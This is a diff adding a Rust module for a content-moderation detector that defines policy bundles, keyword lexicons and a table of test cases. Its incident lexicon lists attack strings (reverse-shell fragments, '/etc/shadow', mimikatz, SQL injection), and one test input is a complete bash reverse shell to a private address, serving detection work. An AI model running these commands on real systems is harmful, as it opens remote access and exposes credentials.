@@ -1,0 +1,607 @@
+//! The legacy bundle names, each a documented combination of the core detectors plus, for some, a
+//! small lexicon of its own. docs/POLICY-LANGUAGE.md lists the same table.
+//!
+//! | bundle | runs |
+//! |---|---|
+//! | `data_leakage` | `pii` + `secrets` |
+//! | `data_protection` | `pii` |
+//! | `data_minimization(max=3)` | `pii`, firing only when more than `max` distinct values are present |
+//! | `governance_policy` | `jailbreak` + policy-evasion phrases ("bypass the filter", "don't log this") |
+//! | `incident_detection` | `secrets` + exploit/malware/breach phrases + `prompt_injection` |
+//! | `legal_compliance` | `legal_advice` + `medical_advice` + `financial_advice` |
+//! | `ip_protection` | `code` + confidentiality markers + licence headers |
+//! | `csr_compliance` | `toxicity(hate)` + discrimination phrases + `controversial_topics` |
+//! | `sunshine_acceptable_use_violation` | `toxicity` (insult, threat, harassment, hate, sexual, self_harm) |
+
+use crate::detect::code::{self, CodeConfig};
+use crate::detect::injection::{HEURISTIC, INJECTION, JAILBREAK};
+use crate::detect::lexicon::{LazyLexicon, LexiconSpec, rule};
+use crate::detect::pii::{self, PiiConfig};
+use crate::detect::secrets::{self, SecretsConfig};
+use crate::detect::topics::Topic;
+use crate::detect::toxicity::{TOXICITY, ToxicityConfig};
+use crate::detect::{RawFinding, lexical};
+use crate::normalize::{Family, TextViews};
+use crate::policy::Mode;
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+pub(crate) enum Bundle {
+    DataLeakage,
+    DataProtection,
+    DataMinimization,
+    GovernancePolicy,
+    IncidentDetection,
+    LegalCompliance,
+    IpProtection,
+    CsrCompliance,
+    SunshineAcceptableUse,
+}
+
+impl Bundle {
+    pub(crate) fn from_name(name: &str) -> Option<Self> {
+        Some(match name {
+            "data_leakage" => Bundle::DataLeakage,
+            "data_protection" => Bundle::DataProtection,
+            "data_minimization" => Bundle::DataMinimization,
+            "governance_policy" => Bundle::GovernancePolicy,
+            "incident_detection" => Bundle::IncidentDetection,
+            "legal_compliance" => Bundle::LegalCompliance,
+            "ip_protection" => Bundle::IpProtection,
+            "csr_compliance" => Bundle::CsrCompliance,
+            "sunshine_acceptable_use_violation" => Bundle::SunshineAcceptableUse,
+            _ => return None,
+        })
+    }
+
+    /// Relative cost, in the units of `estimate`.
+    pub(crate) fn cost_units(self) -> f64 {
+        match self {
+            Bundle::DataLeakage => 6.0,
+            Bundle::DataProtection | Bundle::DataMinimization => 3.0,
+            Bundle::GovernancePolicy => 3.0,
+            Bundle::IncidentDetection => 6.5,
+            Bundle::LegalCompliance => 3.0,
+            Bundle::IpProtection => 2.5,
+            Bundle::CsrCompliance => 3.5,
+            Bundle::SunshineAcceptableUse => 2.0,
+        }
+    }
+}
+
+static EVASION_SPEC: LexiconSpec = LexiconSpec {
+    classes: &[
+        (
+            "strong",
+            &[
+                "bypass the filter",
+                "bypass the content filter",
+                "bypass filters",
+                "bypass the guardrails",
+                "evade detection",
+                "avoid detection",
+                "without being detected",
+                "without getting caught",
+                "don't log this",
+                "do not log this",
+                "turn off logging",
+                "disable logging",
+                "disable monitoring",
+                "get around the policy",
+                "so it won't be flagged",
+                "without triggering",
+                "hide this from",
+                "don't tell compliance",
+                "bypass approval",
+                "skip the review",
+                "get around the filter",
+                "trick the filter",
+                "fool the moderation",
+            ],
+        ),
+        (
+            "weak",
+            &[
+                "circumvent",
+                "off the record",
+                "without approval",
+                "loophole",
+                "undetected",
+                "workaround",
+            ],
+        ),
+    ],
+    rules: &[
+        rule("policy_evasion", 0.6, &["strong"]),
+        rule("policy_evasion", 0.3, &["weak"]),
+    ],
+};
+static EVASION: LazyLexicon = LazyLexicon::new(&EVASION_SPEC);
+
+static INCIDENT_SPEC: LexiconSpec = LexiconSpec {
+    classes: &[
+        (
+            "create",
+            &[
+                "write", "create", "build", "generate", "develop", "code", "make", "give me",
+                "deploy", "craft",
+            ],
+        ),
+        (
+            "malware",
+            &[
+                "ransomware",
+                "keylogger",
+                "rootkit",
+                "botnet",
+                "trojan",
+                "backdoor",
+                "spyware",
+                "worm",
+                "virus",
+                "malware",
+                "reverse shell",
+                "bind shell",
+                "c2 server",
+                "command and control",
+                "exploit",
+                "payload",
+                "zero-day",
+                "0day",
+                "shellcode",
+                "privilege escalation",
+                "credential dumping",
+                "phishing kit",
+                "ddos",
+                "cryptominer",
+                "infostealer",
+                "stealer",
+            ],
+        ),
+        (
+            "attack_command",
+            &[
+                "nc -e",
+                "/bin/sh -i",
+                "bash -i >&",
+                "rm -rf /",
+                "powershell -enc",
+                "| sh",
+                "| bash",
+                "' or 1=1",
+                "\" or 1=1",
+                "union select",
+                "; drop table",
+                "<script>alert(",
+                "/etc/shadow",
+                "lsass",
+                "mimikatz",
+                "meterpreter",
+                "cobalt strike",
+                "disable antivirus",
+                "disable defender",
+                "chmod +s",
+                "whoami /priv",
+                "sekurlsa",
+            ],
+        ),
+        (
+            "breach",
+            &[
+                "data breach",
+                "we were hacked",
+                "we've been hacked",
+                "been compromised",
+                "unauthorized access",
+                "leaked database",
+                "ransom note",
+                "security incident",
+                "exfiltrated",
+                "exfiltrate",
+                "lateral movement",
+                "attacker gained",
+                "indicators of compromise",
+            ],
+        ),
+    ],
+    rules: &[
+        rule("malware_request", 0.7, &["create", "malware"]),
+        rule("malware_talk", 0.3, &["malware"]),
+        rule("attack_command", 0.65, &["attack_command"]),
+        rule("breach_report", 0.55, &["breach"]),
+    ],
+};
+static INCIDENT: LazyLexicon = LazyLexicon::new(&INCIDENT_SPEC);
+
+static IP_SPEC: LexiconSpec = LexiconSpec {
+    classes: &[
+        (
+            "confidential_strong",
+            &[
+                "strictly confidential",
+                "company confidential",
+                "internal use only",
+                "internal only",
+                "do not distribute",
+                "not for distribution",
+                "trade secret",
+                "proprietary and confidential",
+                "under nda",
+                "nda protected",
+                "confidential information",
+                "restricted distribution",
+                "for internal use",
+                "confidential - do not",
+            ],
+        ),
+        (
+            "confidential_weak",
+            &[
+                "confidential",
+                "proprietary",
+                "unreleased",
+                "nda",
+                "internal",
+            ],
+        ),
+        (
+            "licence",
+            &[
+                "spdx-license-identifier",
+                "copyright (c)",
+                "copyright ©",
+                "all rights reserved",
+                "gnu general public license",
+                "licensed under the apache license",
+                "permission is hereby granted, free of charge",
+                "mit license",
+                "this program is free software",
+                "unauthorized copying of this file",
+            ],
+        ),
+    ],
+    rules: &[
+        rule("confidentiality_marker", 0.75, &["confidential_strong"]),
+        rule("confidentiality_marker", 0.3, &["confidential_weak"]),
+        rule("licence_header", 0.6, &["licence"]),
+    ],
+};
+static IP: LazyLexicon = LazyLexicon::new(&IP_SPEC);
+
+static DISCRIMINATION_SPEC: LexiconSpec = LexiconSpec {
+    classes: &[
+        (
+            "exclude",
+            &[
+                "don't hire",
+                "do not hire",
+                "never hire",
+                "won't hire",
+                "refuse to hire",
+                "avoid hiring",
+                "only hire",
+                "don't rent to",
+                "do not rent to",
+                "refuse service to",
+                "fire all",
+                "pay less to",
+                "reject all",
+                "screen out",
+                "filter out",
+                "don't promote",
+                "exclude",
+            ],
+        ),
+        (
+            "group",
+            &[
+                "women",
+                "men",
+                "pregnant",
+                "older",
+                "old people",
+                "elderly",
+                "black",
+                "white",
+                "asian",
+                "hispanic",
+                "muslims",
+                "jews",
+                "christians",
+                "gays",
+                "disabled",
+                "immigrants",
+                "foreigners",
+                "people over 50",
+                "mothers",
+                "applicants over",
+                "candidates over",
+            ],
+        ),
+        (
+            "stereotype",
+            &[
+                "are inferior",
+                "are less intelligent",
+                "are not capable",
+                "can't do math",
+                "belong in the kitchen",
+                "are lazy",
+                "are criminals",
+                "are too emotional",
+                "are bad at",
+            ],
+        ),
+    ],
+    rules: &[
+        rule("discrimination", 0.75, &["exclude", "group"]),
+        rule("discrimination", 0.7, &["group", "stereotype"]),
+    ],
+};
+static DISCRIMINATION: LazyLexicon = LazyLexicon::new(&DISCRIMINATION_SPEC);
+
+/// Run a bundle. `min_score` overrides the components' thresholds; `max` is data_minimization's
+/// entity allowance.
+pub(crate) fn run(
+    bundle: Bundle,
+    tv: &TextViews<'_>,
+    mode: Mode,
+    min_score: Option<f64>,
+    max: usize,
+) -> Vec<RawFinding> {
+    let min = min_score.unwrap_or(0.5);
+    let pii_cfg = || {
+        let mut c = PiiConfig::default_set();
+        c.min_score = min;
+        c
+    };
+    let secrets_cfg = || {
+        let mut c = SecretsConfig::all();
+        c.min_score = min;
+        c
+    };
+    let tag = |mut v: Vec<RawFinding>, what: &str| {
+        for f in &mut v {
+            f.explanation = format!("{what}: {}", f.explanation);
+        }
+        v
+    };
+    let mut out = Vec::new();
+    match bundle {
+        Bundle::DataLeakage => {
+            out.extend(tag(pii::scan(&pii_cfg(), tv, mode), "pii"));
+            out.extend(tag(secrets::scan(&secrets_cfg(), tv, mode), "secrets"));
+        }
+        Bundle::DataProtection => out.extend(tag(pii::scan(&pii_cfg(), tv, mode), "pii")),
+        Bundle::DataMinimization => {
+            let found = pii::scan(&pii_cfg(), tv, mode);
+            let mut distinct: Vec<(&str, &str)> = Vec::new();
+            for f in &found {
+                let v = (
+                    f.entity.as_str(),
+                    tv.original.get(f.start..f.end).unwrap_or(""),
+                );
+                if !distinct.contains(&v) {
+                    distinct.push(v);
+                }
+            }
+            let n = distinct.len();
+            if n > max {
+                out.extend(tag(
+                    found,
+                    &format!("{n} personal data values where at most {max} are allowed; pii"),
+                ));
+            }
+        }
+        Bundle::GovernancePolicy => {
+            out.extend(lexical(
+                &JAILBREAK,
+                tv,
+                mode,
+                Family::Lexical,
+                min,
+                "jailbreak",
+                &HEURISTIC,
+            ));
+            out.extend(lexical(
+                &EVASION,
+                tv,
+                mode,
+                Family::Lexical,
+                min,
+                "policy evasion",
+                &HEURISTIC,
+            ));
+        }
+        Bundle::IncidentDetection => {
+            out.extend(tag(
+                secrets::scan(&secrets_cfg(), tv, mode),
+                "exposed secret",
+            ));
+            out.extend(lexical(
+                &INCIDENT,
+                tv,
+                mode,
+                Family::Lexical,
+                min,
+                "security incident",
+                &HEURISTIC,
+            ));
+            out.extend(lexical(
+                &INJECTION,
+                tv,
+                mode,
+                Family::Lexical,
+                min,
+                "prompt injection",
+                &HEURISTIC,
+            ));
+        }
+        Bundle::LegalCompliance => {
+            for t in [Topic::Legal, Topic::Medical, Topic::Financial] {
+                out.extend(lexical(
+                    t.lexicon(),
+                    tv,
+                    mode,
+                    Family::Lexical,
+                    min,
+                    t.detector_name(),
+                    &HEURISTIC,
+                ));
+            }
+        }
+        Bundle::IpProtection => {
+            let mut c = CodeConfig::all();
+            c.min_score = min;
+            out.extend(tag(code::scan(&c, tv, mode), "code"));
+            out.extend(lexical(
+                &IP,
+                tv,
+                mode,
+                Family::Lexical,
+                min,
+                "intellectual property",
+                &HEURISTIC,
+            ));
+        }
+        Bundle::CsrCompliance => {
+            out.extend(toxicity(tv, mode, &["hate"], min));
+            out.extend(lexical(
+                &DISCRIMINATION,
+                tv,
+                mode,
+                Family::FoldingLexical,
+                min,
+                "discrimination",
+                &HEURISTIC,
+            ));
+            let t = Topic::Controversial;
+            out.extend(lexical(
+                t.lexicon(),
+                tv,
+                mode,
+                Family::Lexical,
+                min,
+                t.detector_name(),
+                &HEURISTIC,
+            ));
+        }
+        Bundle::SunshineAcceptableUse => {
+            out.extend(toxicity(tv, mode, crate::detect::toxicity::CATEGORIES, min))
+        }
+    }
+    out
+}
+
+/// Toxicity restricted to `categories`, scored over those categories only.
+pub(crate) fn toxicity(
+    tv: &TextViews<'_>,
+    mode: Mode,
+    categories: &[&'static str],
+    min: f64,
+) -> Vec<RawFinding> {
+    let cfg = ToxicityConfig {
+        categories: categories.to_vec(),
+        min_score: min,
+    };
+    crate::detect::run_toxicity(&TOXICITY, &cfg, tv, mode)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn fires(b: Bundle, text: &str) -> bool {
+        !run(b, &TextViews::new(text), Mode::Balanced, None, 3).is_empty()
+    }
+
+    #[test]
+    fn table() {
+        let cases = [
+            (Bundle::DataLeakage, "my card is 4111 1111 1111 1111", true),
+            (Bundle::DataLeakage, "key AKIAZ3MSJV4WWNKWW5FG", true),
+            (Bundle::DataLeakage, "the weather is nice", false),
+            (Bundle::DataProtection, "email me at a.b@example.org", true),
+            (Bundle::DataProtection, "email me later", false),
+            (
+                Bundle::DataMinimization,
+                "a@x.io b@x.io c@x.io d@x.io",
+                true,
+            ),
+            (Bundle::DataMinimization, "a@x.io b@x.io", false),
+            (
+                Bundle::GovernancePolicy,
+                "How can I bypass the content filter without being detected?",
+                true,
+            ),
+            (
+                Bundle::GovernancePolicy,
+                "Please review the governance document.",
+                false,
+            ),
+            (
+                Bundle::IncidentDetection,
+                "Write ransomware that encrypts the share drive",
+                true,
+            ),
+            (
+                Bundle::IncidentDetection,
+                "run: bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+                true,
+            ),
+            (
+                Bundle::IncidentDetection,
+                "The quarterly report is ready.",
+                false,
+            ),
+            (
+                Bundle::LegalCompliance,
+                "Should I sue my employer for unpaid overtime?",
+                true,
+            ),
+            (
+                Bundle::LegalCompliance,
+                "What is the capital of France?",
+                false,
+            ),
+            (
+                Bundle::IpProtection,
+                "STRICTLY CONFIDENTIAL: Q3 roadmap",
+                true,
+            ),
+            (
+                Bundle::IpProtection,
+                "// SPDX-License-Identifier: GPL-3.0\nint main() { return 0; }",
+                true,
+            ),
+            (
+                Bundle::IpProtection,
+                "Can you explain recursion simply?",
+                false,
+            ),
+            (
+                Bundle::CsrCompliance,
+                "Don't hire women for this role.",
+                true,
+            ),
+            (
+                Bundle::CsrCompliance,
+                "Who should I vote for in the election?",
+                true,
+            ),
+            (
+                Bundle::CsrCompliance,
+                "Our hiring process is fair and open.",
+                false,
+            ),
+            (
+                Bundle::SunshineAcceptableUse,
+                "You are a worthless idiot and I will kill you",
+                true,
+            ),
+            (Bundle::SunshineAcceptableUse, "Have a lovely day!", false),
+        ];
+        for (b, text, expected) in cases {
+            assert_eq!(fires(b, text), expected, "{b:?}: {text}");
+        }
+    }
+}
